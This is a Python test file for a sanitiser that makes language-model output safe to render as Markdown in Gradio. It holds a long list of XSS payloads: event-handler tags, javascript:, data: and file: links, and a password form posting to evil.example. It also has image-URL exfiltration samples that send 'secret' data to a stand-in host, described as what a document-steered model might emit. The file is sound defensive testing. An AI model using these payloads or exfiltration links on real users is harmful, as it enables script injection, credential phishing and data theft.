"""core.safe_html: hostile model output becomes inert Markdown. Checked two ways: what the function
returns for known attacks, and, for those and thousands of random mixes of Markdown and HTML syntax,
what Gradio's own bundled Markdown renderer (its marked build, run with node) makes of the result: no
element or attribute outside the allow-list, no href or src outside http(s)/mailto."""

from __future__ import annotations

import glob
import json
import random
import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest

from core.safe_html import ALLOWED_TAGS, safe_markdown, safe_url

HOSTILE = [
    '<div style="position:fixed;inset:0;z-index:9999;background:red">covered</div>',
    '<form action="https://evil.example/steal"><input type="password" name="p"><button>Log in</button></form>',
    '<iframe src="https://evil.example"></iframe>',
    "<img src=x onerror=alert(1)>",
    "<style>body{display:none}</style>",
    "<svg onload=alert(1)><circle r=9></svg>",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "<marquee>hi</marquee>",
    '<DIV STYLE="position:fixed">x</DIV>',
    '<div\nstyle="position:fixed">x</div>',
    '<div style="position:fixed',
    "partial <div style=",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x>]]>",
    "&#60;img src=x onerror=alert(1)&#62;",
    '<p style="position:fixed">x</p>',
    '<b onclick="x">bold</b>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x]( <javascript:alert(1)> )",
    "![i](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]:\n  javascript:alert(1)",
    "[x](\njavascript:alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,<b>x</b>>",
    "```mermaid\ngraph TD;A-->B\n```",
    '```mermaid\nfoo```\n<img src=x style="position:fixed">\n```',
    '<p>\n`<img src=x style="position:fixed">`\n</p>',
    '<p/x>\n`<img src=x style="position:fixed">`',
    '<b\nstyle="x">\n`<img src=x style="position:fixed">`',
    '[x](http://a.com/`) <img style="position:fixed"> `',
    'https://x.com/`a <img style="position:fixed"> `',
    'www.a.com:`<img style="position:fixed">`',
    '$$`$$<img src=x style="position:fixed">`',
    "%%%LATEX_BLOCK_0%%% $$<img>$$",
    '| a | b |\n|---|---|\n| `x|<img style="position:fixed">` | y |',
    '> ```\n> code\n<img src=x style="position:fixed">\n```',
    '- item\n  ```\n  <img src=x style="position:fixed">\n  ```',
    '1. x\n\n    <img style="position:fixed">',
    '<pre>\n`<img style="position:fixed">`\n</pre>',
    '*a ``<img style="position:fixed">*`` x``',
    '~~a `<img style="position:fixed">~~` x`',
    '`a\nb` <img style="position:fixed"> `c`',
    'x ~`<img style="position:fixed">`',
    '- [ ] <pre>`<img style="position:fixed">`',
    "[\n```\n[r]: javascript:x\n```",
    'para\n$$ <img style="position:fixed">',
    '<b title="`">`<img style="position:fixed">`',
    '\\`<img style="position:fixed">`',
    "<scr<script>ipt>alert(1)</script>",
    "<img/src=x/onerror=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<textarea><img src=x></textarea>",
    '<x-custom style="position:fixed">x</x-custom>',
    "<thinking>hidden</thinking>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "</div style=x>",
    '<a href="https://ok.example/?q=1&x=2" onclick=1>ok</a>',
]

PIECES = [
    "<",
    ">",
    "`",
    "``",
    "```",
    "```mermaid",
    "~~~",
    "\n",
    "\n",
    "\n\n",
    "> ",
    "- ",
    "* ",
    "1. ",
    "    ",
    "  ",
    "|",
    "---",
    "[",
    "]",
    "(",
    ")",
    "](",
    "]:",
    "![",
    "\\",
    "$$",
    "$",
    "*",
    "_",
    "~~",
    '<img style="position:fixed">',
    "<p>",
    "</p>",
    "<b>",
    "</b>",
    "<pre>",
    "</pre>",
    "<details>",
    "<!--",
    "-->",
    "javascript:alert(1)",
    "http://x.y/",
    "www.a.com",
    "a@b.co",
    "<http://x>",
    "&#60;",
    "x",
    " ",
    "# ",
    "<table>",
    "<td>",
    '"',
    "'",
    "<code>",
    "</code>",
    "<div ",
    'style="position:fixed"',
    '<a href="javascript:x">',
    "<br>",
    "<script>",
    "<style>",
    "<textarea>",
    "<![CDATA[",
    "<?",
    "<!X",
    "%%%LATEX_BLOCK_0%%%",
    "\t",
    "- [ ] ",
    "- [x] <pre>",
    '<x y="`">',
    "<b title='",
    "<svg/onload=1>",
    "[r]: javascript:x\n",
    "[r]",
    "&colon;",
    '\n- x\n  ```\n  <img style="position:fixed">\n',
    "\n```\n",
    "\n  ```html\n",
]


# --- the function's own answers ------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_input_is_a_fixpoint_with_only_clean_tags_left(text):
    out = safe_markdown(text)
    assert safe_markdown(out) == out
    if re.search(r"[`~$]", text):
        return  # code and LaTeX stay verbatim: the renderer tests below check those
    for m in re.finditer(r"<[^\s>]*[^>]*>?", out):
        tag = m.group(0)
        assert re.fullmatch(r"</?(%s)>" % "|".join(ALLOWED_TAGS), tag) or re.fullmatch(
            r'<a href="(https?|mailto):[^"<>]*">', tag
        ), (tag, out)


def test_what_is_shown_and_what_is_not():
    assert safe_markdown('<div style="position:fixed">x</div>') == '&lt;div style="position:fixed">x&lt;/div>'
    assert safe_markdown('<p style="position:fixed" onclick="x">x</p>') == "<p>x</p>"
    assert (
        safe_markdown('<a href="https://ok.example/a b" onclick=1>ok</a>')
        == '<a href="https://ok.example/a%20b">ok</a>'
    )
    assert safe_markdown('<a href="javascript:alert(1)">x</a>') == "<a>x</a>"
    assert safe_markdown("[x](javascript:alert(1))") == "[x]&#40;javascript:alert(1))"
    assert safe_markdown("![x](data:image/png;base64,AA)") == "!&#91;x]&#40;data:image/png;base64,AA)"
    assert safe_markdown("partial reply <div style=") == "partial reply &lt;div style="  # a tag cut by streaming
    assert safe_markdown("```mermaid\nA-->B\n```") == "``` mermaid\nA-->B\n```"
    assert safe_markdown("<https://example.com/a_b>") == "[https://example.com/a\\_b](https://example.com/a_b)"


def test_ordinary_markdown_is_left_alone():
    text = (
        'Here is a form:\n\n```html\n<form action="/login"><input type="password"></form>\n```\n\n'
        "Use the `<div>` element, see [MDN](https://developer.mozilla.org/) and https://example.com.\n\n"
        "| tag | use |\n|---|---|\n| `<b>` | bold |\n\n**Done**: $5 and $$x^2$$ math, a@b.co, "
        "H<sub>2</sub>O and <b>bold</b>.\n\n> quote\n\n- a\n- b\n\n1. one\n2. two"
    )
    assert safe_markdown(text) == text


@pytest.mark.parametrize(
    "url,ok",
    [
        ("https://a.b", True),
        ("HTTP://a.b", True),
        ("mailto:a@b.c", True),
        ("#x", True),
        ("javascript:x", False),
        (" java\tscript:x", False),
        ("javascript&colon;x", False),
        ("data:text/html,x", False),
        ("/relative", False),
        ("//evil.example", False),
    ],
)
def test_safe_url(url, ok):
    assert safe_url(url) is ok


# --- what Gradio's renderer makes of it ------------------------------------------------------------------

MARKED_GENERATED = {
    "p",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "a",
    "code",
    "pre",
    "em",
    "strong",
    "del",
    "blockquote",
    "ul",
    "ol",
    "li",
    "input",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "hr",
    "br",
    "div",
}
ATTRS = {
    "a": {"href", "title", "target", "rel"},
    "img": {"src", "alt", "title"},
    "ol": {"start"},
    "input": {"type", "checked", "disabled"},
    "th": {"align"},
    "td": {"align"},
    "code": {"class"},
    "div": {"class"},
}

ORACLE = r"""
import {wt, st} from './md.mjs';
const delims=[{left:'$$',right:'$$',display:true}];
const y=wt({header_links:false,line_breaks:true,latex_delimiters:delims});
const esc=(e)=>e.replace(/[&<>"']/g,c=>({'&':'&amp;','<':'&lt;','>':'&gt;','"':'&quot;',"'":'&#39;'}[c]));
async function render(e){  // as Gradio's MarkdownCode does, up to its DOM sanitizer
  let n=[],r=e;
  r=r.replace(/\$\$([\s\S]+?)\$\$/g,x=>(n.push(x),`%%%LATEX_BLOCK_${n.length-1}%%%`));
  const restore=(s)=>s.replace(/%%%LATEX_BLOCK_(\d+)%%%/g,(x,k)=>esc(n[parseInt(k,10)]));
  let out=[];
  for(const t of y.lexer(r).filter(t=>t.type!=='space')){
    if(y.defaults.walkTokens) await Promise.all(y.walkTokens([t],y.defaults.walkTokens));
    out.push(restore(y.parser([t])).split(st).join('<!--copy-->'));
  }
  return out.join('');
}
let data='';process.stdin.on('data',c=>data+=c);process.stdin.on('end',async()=>{
  const res=[];for(const x of JSON.parse(data)){try{res.push(await render(x))}catch(err){res.push('<error>'+err)}}
  process.stdout.write(JSON.stringify(res));});
"""


@pytest.fixture(scope="module")
def gradio_markdown(tmp_path_factory):
    """Render Markdown with the marked build inside the installed Gradio frontend (node required)."""
    node = shutil.which("node")
    import gradio

    bundles = glob.glob(str(Path(gradio.__file__).parent / "templates/frontend/assets/markdown-code-*.js"))
    if not node or len(bundles) != 1:
        pytest.skip("needs node and Gradio's markdown-code bundle")
    src = Path(bundles[0]).read_text().split("\n", 1)[1]
    stubs = {
        r'^import\{[^}]*\}from"\./index-[^"]+";': "const e=()=>{},t=()=>{},n=(x)=>x,r=()=>{},i=()=>()=>{},"
        "a=(f)=>f(),o=()=>{},s=()=>{},c=()=>{},l=()=>{},u=()=>{};",
        r'import\{n as d\}from"\./browser-[^"]+";': "const d=null;",
        r'import\{t as f\}from"\./prism-[^"]+";': "const f=()=>({languages:{},highlight:(c)=>c});",
        r'import"\./core-[^"]+";': "",
    }
    for pattern, stub in stubs.items():
        src, count = re.subn(pattern, stub, src)
        assert count == 1, f"Gradio's bundle changed: {pattern}"
    assert src.count("export{Ot as t};") == 1
    folder = tmp_path_factory.mktemp("marked")
    (folder / "md.mjs").write_text(src.replace("export{Ot as t};", "export{wt,Ot,st};"))
    (folder / "oracle.mjs").write_text(ORACLE)

    def render(texts: list[str]) -> list[str]:
        done = subprocess.run(
            [node, str(folder / "oracle.mjs")], input=json.dumps(texts), capture_output=True, text=True, timeout=300
        )
        assert done.returncode == 0, done.stderr
        return json.loads(done.stdout)

    return render


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS | MARKED_GENERATED:
            self.bad.append(("element", tag))
            return
        for k, v in attrs:
            if k not in ATTRS.get(tag, set()):
                self.bad.append(("attribute", tag, k))
            elif k == "href" and not safe_url(v or ""):
                self.bad.append(("href", v))
            elif k == "src" and not safe_url(v or "", ("http", "https"), fragment=False):
                self.bad.append(("src", v))
            elif k == "type" and v != "checkbox":
                self.bad.append(("type", v))
            elif k == "class" and not (
                tag == "div" and v == "code_wrap" or tag == "code" and v.startswith("language-")
            ):
                self.bad.append(("class", tag, v))
        if tag == "div" and dict(attrs).get("class") != "code_wrap":
            self.bad.append(("element", "div"))

    def handle_comment(self, data):
        if data != "copy":  # the copy button Gradio puts on code blocks, cut out above
            self.bad.append(("comment", data))

    def handle_decl(self, decl):
        self.bad.append(("declaration", decl))

    def handle_pi(self, data):
        self.bad.append(("processing instruction", data))

    def unknown_decl(self, data):
        self.bad.append(("declaration", data))


def _audit(html: str) -> list:
    audit = _Audit()
    audit.feed(html)
    audit.close()
    return audit.bad


def test_gradio_renders_the_hostile_inputs_raw_and_the_sanitised_ones_inert(gradio_markdown):
    raw = gradio_markdown(HOSTILE)
    assert sum(1 for html in raw if _audit(html)) > len(HOSTILE) // 2  # the audit sees the attacks
    for text, html in zip(HOSTILE, gradio_markdown([safe_markdown(t) for t in HOSTILE])):
        assert _audit(html) == [], (text, safe_markdown(text), html)


@pytest.mark.parametrize("seed", [1, 2])
def test_random_markdown_and_html_mixes_render_inert(gradio_markdown, seed):
    rng = random.Random(seed)
    docs = ["".join(rng.choice(PIECES) for _ in range(rng.randint(1, 40))) for _ in range(1500)]
    outs = [safe_markdown(d) for d in docs]
    assert [d for d, o in zip(docs, outs) if safe_markdown(o) != o] == []
    bad = [(d, o, _audit(h)) for d, o, h in zip(docs, outs, gradio_markdown(outs)) if _audit(h)]
    assert bad == [], bad[:3]


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=secret)",
        "![x][r]\n\n[r]: https://evil.example/a.png",
        "![x]\n\n[x]: https://evil.example/p.png",
        "[![x](https://e/x.png)](https://e)",
        "![x](<https://e/x.png>)",
        "text ![a](http://e/1.png) more",
    ],
)
def test_no_image_from_model_output_ever_loads(text):
    """A model steered by a document can put data into an image URL; the browser would fetch it."""
    out = safe_markdown(text)
    assert "![" not in out.replace("!&#91;", "") and safe_markdown(out) == out
